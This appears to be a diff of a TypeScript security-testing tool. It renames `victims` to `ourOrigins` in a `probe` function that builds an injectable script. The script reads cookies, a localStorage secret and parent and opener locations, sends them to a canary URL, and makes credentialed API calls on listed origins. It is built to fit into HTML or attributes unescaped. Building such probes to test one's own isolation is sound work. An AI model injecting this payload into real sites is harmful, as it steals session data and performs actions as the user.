@@ -13,17 +13,17 @@ export type Ran = {
 
 /**
  * A script that tells where it runs and what it can read, and does harm where it runs at one of
- * `victims`. It is a classic script, a module, a worker and a service worker alike, and has no `<`,
+ * `ourOrigins`. It is a classic script, a module, a worker and a service worker alike, and has no `<`,
  * `&` or `"`, so that it can stand in HTML, in XML and in attributes as it is.
  */
-export const probe = (canary: string, victims: string[]): string =>
+export const probe = (canary: string, ourOrigins: string[]): string =>
   `(function(){var s=self,d=s.document,r={origin:s.origin,at:String(s.location)};
 function say(k,o){fetch('${canary}/'+k+'?'+encodeURIComponent(JSON.stringify(o)),{mode:'no-cors',keepalive:true})}
 function read(n,f){try{r[n]=String(f())}catch(e){r[n]='!'+e.name}}
 if(d){read('cookie',function(){return d.cookie});read('stored',function(){return localStorage.secret});
 read('parent',function(){return s.parent.location.href});read('opener',function(){return s.opener.location.href})}
 say('ran',r);
-[${victims.map((victim) => `'${victim}'`)}].forEach(function(v){if(r.at.indexOf(v)!==0)return;
+[${ourOrigins.map((ourOrigin) => `'${ourOrigin}'`)}].forEach(function(v){if(r.at.indexOf(v)!==0)return;
 function did(what){return function(){say('did',{what:what,at:r.at})}}
 fetch('/api/v1/limits',{credentials:'include'}).then(did('called the API'));
 if(!d)return;
